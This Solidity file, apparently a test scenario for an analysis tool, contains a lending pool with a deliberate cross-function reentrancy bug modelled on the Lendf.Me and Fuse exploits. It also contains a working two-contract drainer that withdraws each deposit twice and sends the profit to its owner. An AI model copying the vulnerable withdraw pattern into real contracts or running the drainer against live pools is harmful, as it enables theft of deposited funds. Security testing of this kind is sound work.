// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

/// @title EtherSupplyPool: the ETH supply side of a lending market, whose deposit
/// balances are tokens that can be moved between accounts (as cTokens are).
/// @notice Written for seqguard's scenarios. BUG, cross-function reentrancy, as in
/// Lendf.Me (April 2020, about $25M: imBTC's ERC-777 hook re-entered the market) and
/// Rari Capital's Fuse pools (April 2022, about $80M: `borrow` sent ETH before recording
/// the debt and the hook called `exitMarket`): `withdraw` pays before it zeroes the
/// balance, and only `withdraw` holds the lock, so the payee's receive hook can
/// `transfer` the balance that is still credited to a second account, which withdraws
/// it once more.
contract EtherSupplyPool {
    string public constant name = "Supplied ETH";
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    bool private locked;

    event Transfer(address indexed from, address indexed to, uint256 value);

    modifier lock() {
        require(!locked, "EtherSupplyPool: locked");
        locked = true;
        _;
        locked = false;
    }

    function deposit() external payable {
        balanceOf[msg.sender] += msg.value;
        totalSupply += msg.value;
        emit Transfer(address(0), msg.sender, msg.value);
    }

    /// Moves a deposit to another account. Not locked: the bug's other half.
    function transfer(address to, uint256 amount) external returns (bool) {
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        emit Transfer(msg.sender, to, amount);
        return true;
    }

    /// Withdraws the caller's whole deposit.
    function withdraw() external lock {
        uint256 amount = balanceOf[msg.sender];
        require(amount > 0, "EtherSupplyPool: nothing to withdraw");
        (bool ok,) = msg.sender.call{value: amount}("");
        require(ok, "EtherSupplyPool: transfer failed");
        // too late: the hook above could still move `amount` elsewhere with `transfer`
        balanceOf[msg.sender] = 0;
        totalSupply -= amount;
        emit Transfer(msg.sender, address(0), amount);
    }
}

/// @title CrossFunctionDrainer: withdraws from an EtherSupplyPool while its receive hook
/// hands the still-credited deposit to an accomplice, which withdraws it again and hands
/// it back; each round takes the deposit out twice.
/// @notice The Lendf.Me / Fuse pattern, written for seqguard's scenarios. Reverts unless
/// it ends with more ETH than it brought.
contract CrossFunctionDrainer {
    EtherSupplyPool public immutable pool;
    DrainerAccomplice public immutable accomplice;
    address private immutable owner;
    bool private looping;

    constructor(EtherSupplyPool pool_) {
        pool = pool_;
        owner = msg.sender;
        accomplice = new DrainerAccomplice(pool_);
    }

    function attack(uint256 maxRounds) external payable {
        require(msg.sender == owner, "CrossFunctionDrainer: owner only");
        uint256 stake = msg.value;
        pool.deposit{value: stake}();
        looping = true;
        for (uint256 i = 0; i < maxRounds && _left() >= 2 * stake; i++) {
            pool.withdraw(); // our hook hands the credit to the accomplice
            accomplice.cashOut(); // it withdraws it again; its hook hands it back
        }
        looping = false;
        if (_left() >= stake) pool.withdraw(); // the credit we still hold, paid out for real
        require(address(this).balance > stake, "CrossFunctionDrainer: no profit");
        payable(owner).transfer(address(this).balance);
    }

    /// What the pool can still pay: its ETH, and the deposits it believes it owes.
    function _left() private view returns (uint256) {
        uint256 supply = pool.totalSupply();
        return address(pool).balance < supply ? address(pool).balance : supply;
    }

    receive() external payable {
        if (msg.sender == address(pool) && looping) {
            pool.transfer(address(accomplice), pool.balanceOf(address(this)));
        }
    }
}

/// @title DrainerAccomplice: the second account of CrossFunctionDrainer.
contract DrainerAccomplice {
    EtherSupplyPool private immutable pool;
    address private immutable partner;

    constructor(EtherSupplyPool pool_) {
        pool = pool_;
        partner = msg.sender;
    }

    function cashOut() external {
        require(msg.sender == partner, "DrainerAccomplice: partner only");
        pool.withdraw();
        payable(partner).transfer(address(this).balance);
    }

    receive() external payable {
        if (msg.sender == address(pool)) {
            pool.transfer(partner, pool.balanceOf(address(this)));
        }
    }
}
